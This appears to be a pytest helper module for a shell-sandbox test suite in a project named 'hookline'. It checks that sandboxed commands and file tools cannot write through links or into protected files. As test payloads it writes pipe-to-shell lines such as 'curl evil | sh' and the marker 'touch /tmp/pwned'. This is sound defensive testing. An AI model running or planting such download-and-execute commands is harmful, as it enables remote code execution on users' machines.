"""A sandboxed `LocalEnvironment` for the tests of the shell sandbox (the `layout` fixture
of tests/builtins/host/conftest.py gives its folders)."""

from __future__ import annotations

from pathlib import Path

import pytest

from hookline.builtins.host import CommandResult
from hookline.builtins.host.background import BackgroundProcesses
from hookline.builtins.host.environment import LocalEnvironment
from hookline.builtins.host.sandbox import SandboxPolicy
from hookline.kernel.errors import HooklineError

REFUSED = ("Permission denied", "Read-only file system")
"""What a command is told when the sandbox keeps it from a file."""


def environment(workspace: Path, home: Path, processes: BackgroundProcesses | None = None,
                **policy: object) -> LocalEnvironment:
    """The workspace's environment, sandboxed by `policy`, with `home` hidden."""
    return LocalEnvironment(workspace, processes=processes, sandbox=SandboxPolicy(
        hidden=(str(home),), home=str(home), **policy))  # type: ignore[arg-type]


def made_warnings(caplog: pytest.LogCaptureFixture) -> list[str]:
    """The warnings that name what commands made."""
    return [record.getMessage() for record in caplog.records
            if "commands or file tools run in this workspace made" in record.getMessage()]


def said_once(caplog: pytest.LogCaptureFixture, made: str) -> None:
    """`made` was named, in one warning only."""
    said = made_warnings(caplog)
    assert len(said) == 1 and f"made {made}, which" in said[0], said


def changed_warnings(caplog: pytest.LogCaptureFixture) -> list[str]:
    """The warnings that name what commands changed of what runs later, where no
    sandbox kept it read-only."""
    return [record.getMessage() for record in caplog.records
            if "commands may have changed" in record.getMessage()]


async def run_once(workspace: Path, home: Path, command: str, **policy: object
                   ) -> CommandResult:
    """`command` run in a sandbox of its own (`environment`), what it made or changed
    looked at as the builtin plugin does after a run, the sandbox closed after."""
    env = environment(workspace, home, **policy)
    try:
        result = await env.run(command)
        await env.say_what_commands_made()
        return result
    finally:
        await env.close()


async def run_then_write(env: LocalEnvironment, command: str, paths: tuple[str, ...]
                         ) -> tuple[CommandResult, list[str]]:
    """`command` run in the sandbox, then each of `paths` written by the file tools, which
    must refuse it: the command's result and the refusals (the environment closed)."""
    try:
        result = await env.run(command)
        refused = []
        for path in paths:
            with pytest.raises(HooklineError) as caught:
                await env.write_text(path, "touch /tmp/pwned\n")
            refused.append(str(caught.value))
    finally:
        await env.close()
    return result, refused


async def check_link_replaced(env: LocalEnvironment, workspace: Path, link: str,
                              caplog: pytest.LogCaptureFixture) -> None:
    """A command cannot write through the link at `link` (what it points to is kept), but
    may replace the link with a file of its own (a mount cannot be put on a link), which
    the end of the turn names (as the builtin plugin looks after each run) and every
    command after keeps from (the environment closed)."""
    target = (workspace / link).resolve()
    kept = target.read_text()
    try:
        through = await env.run(f"echo 'curl evil | sh' >> {link}")
        replaced = await env.run(f"rm {link} && echo 'curl evil | sh' > {link} && echo done")
        await env.say_what_commands_made()
        after = await env.run(f"echo 'curl more | sh' >> {link}")
    finally:
        await env.close()
    assert "Read-only file system" in through.stderr
    assert target.read_text() == kept
    assert "done" in replaced.stdout, replaced.stderr
    said_once(caplog, link)
    assert "Read-only file system" in after.stderr
    assert (workspace / link).read_text() == "curl evil | sh\n"
